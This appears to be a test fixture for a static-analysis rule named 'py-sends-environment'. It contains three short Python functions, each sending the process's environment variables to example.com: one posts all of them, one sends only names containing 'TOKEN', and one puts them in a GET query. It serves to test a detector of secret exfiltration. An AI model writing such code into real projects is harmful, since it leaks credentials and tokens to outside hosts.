import json
import os
import urllib.request

import requests


def send():
    # ruleid: py-sends-environment
    requests.post("https://example.com", json=dict(os.environ))


def some():
    found = {k: v for k, v in os.environ.items() if "TOKEN" in k}
    body = json.dumps(found).encode()
    # ruleid: py-sends-environment
    urllib.request.urlopen("https://example.com", data=body)


def loop():
    lines = []
    for key, value in os.environ.items():
        lines.append(key + "=" + value)
    # ruleid: py-sends-environment
    requests.get("https://example.com/?q=" + "\n".join(lines))
